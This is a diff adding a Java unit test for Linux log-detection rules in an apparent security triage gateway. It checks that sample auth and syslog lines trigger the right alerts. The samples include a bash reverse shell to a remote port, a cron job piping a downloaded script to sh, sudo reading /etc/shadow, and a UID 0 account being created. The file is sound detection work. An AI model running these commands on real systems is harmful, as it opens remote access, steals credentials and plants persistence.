@@ -1,0 +1,74 @@
+package io.cybershield.shield.gateway.triage.rules;
+
+import org.junit.jupiter.api.Test;
+
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Set;
+
+import static io.cybershield.shield.gateway.triage.logs.LogSource.LINUX_AUTH;
+import static io.cybershield.shield.gateway.triage.logs.LogSource.LINUX_SYSLOG;
+import static io.cybershield.shield.gateway.triage.rules.ShippedRules.fired;
+import static io.cybershield.shield.gateway.triage.rules.ShippedRules.firedAlone;
+import static org.assertj.core.api.Assertions.assertThat;
+
+/** Linux auth and syslog rules (RFC 3164 and RFC 5424 headers). */
+class LinuxRulesTest {
+
+  @Test
+  void sshBruteForceNeedsFiveFailuresFromOneAddress() {
+    assertThat(firedAlone(LINUX_AUTH,
+        "Dec  1 10:00:01 bastion sshd[811]: Failed password for alice from 203.0.113.9 port 51122 ssh2")).isEmpty();
+    List<String> lines = new ArrayList<>();
+    for (int i = 0; i < 6; i++) {
+      lines.add("Dec  1 10:00:0" + i + " bastion sshd[81" + i + "]: Failed password for root from 45.66.77.88 port "
+          + (40000 + i) + " ssh2");
+    }
+    assertThat(fired(LINUX_AUTH, lines.toArray(String[]::new)))
+        .allMatch(ids -> ids.contains("shield-linux-cred-001"));
+  }
+
+  @Test
+  void sprayingAcrossUserNames() {
+    List<Set<String>> spray = fired(LINUX_AUTH,
+        "Dec  1 10:01:01 bastion sshd[901]: Invalid user oracle from 45.66.77.99 port 1000",
+        "Dec  1 10:01:02 bastion sshd[902]: Invalid user postgres from 45.66.77.99 port 1001",
+        "Dec  1 10:01:03 bastion sshd[903]: Invalid user admin from 45.66.77.99 port 1002",
+        "Dec  1 10:01:04 bastion sshd[904]: Invalid user test from 45.66.77.99 port 1003");
+    assertThat(spray).allMatch(ids -> ids.contains("shield-linux-cred-002"));
+  }
+
+  @Test
+  void reverseShellAndCurlPipeShInAnySyslogLine() {
+    assertThat(firedAlone(LINUX_SYSLOG, "<13>1 2026-12-01T10:02:00Z web01 bash 4242 - - HISTORY: PID=4242 UID=33 "
+        + "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1")).contains("shield-linux-exec-001");
+    assertThat(firedAlone(LINUX_SYSLOG, "Dec  1 10:03:00 web01 CRON[5151]: (www-data) CMD (curl -fsSL "
+        + "http://198.51.100.4/x.sh | sh)")).contains("shield-linux-persist-004");
+  }
+
+  @Test
+  void sudoReadingShadowAndAUserAddedWithUidZero() {
+    assertThat(firedAlone(LINUX_AUTH, "Dec  1 10:04:00 db01 sudo:    bob : TTY=pts/1 ; PWD=/home/bob ; USER=root ; "
+        + "COMMAND=/usr/bin/cat /etc/shadow")).contains("shield-linux-cred-003");
+    assertThat(firedAlone(LINUX_AUTH, "Dec  1 10:05:00 db01 useradd[777]: new user: name=sysadm, UID=0, GID=0, "
+        + "home=/root, shell=/bin/bash")).contains("shield-linux-persist-001");
+  }
+
+  @Test
+  void routineAuthAndSyslogLinesAreNotFlagged() {
+    List<Set<String>> benign = fired(LINUX_AUTH,
+        "Dec  1 11:00:00 bastion sshd[1201]: Accepted publickey for alice from 10.20.1.5 port 52000 ssh2: ED25519",
+        "Dec  1 11:00:01 bastion sshd[1201]: pam_unix(sshd:session): session opened for user alice(uid=1000)",
+        "Dec  1 11:00:05 bastion sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
+            + "COMMAND=/usr/bin/systemctl restart nginx",
+        "Dec  1 11:01:00 bastion sshd[1300]: Failed password for bob from 10.20.1.9 port 52011 ssh2",
+        "Dec  1 11:02:00 db01 useradd[888]: new user: name=jdoe, UID=1004, GID=1004, home=/home/jdoe, "
+            + "shell=/bin/bash");
+    assertThat(benign).allMatch(Set::isEmpty);
+    List<Set<String>> syslog = fired(LINUX_SYSLOG,
+        "Dec  1 11:05:00 backup01 CRON[999]: (root) CMD (/usr/bin/restic backup /srv --tag nightly)",
+        "Dec  1 11:06:00 backup01 rsync[1000]: sent 1024 bytes  received 2048 bytes  total size 4096",
+        "Dec  1 11:07:00 app03 systemd[1]: Started Daily apt upgrade and clean activities.");
+    assertThat(syslog).allMatch(Set::isEmpty);
+  }
+}
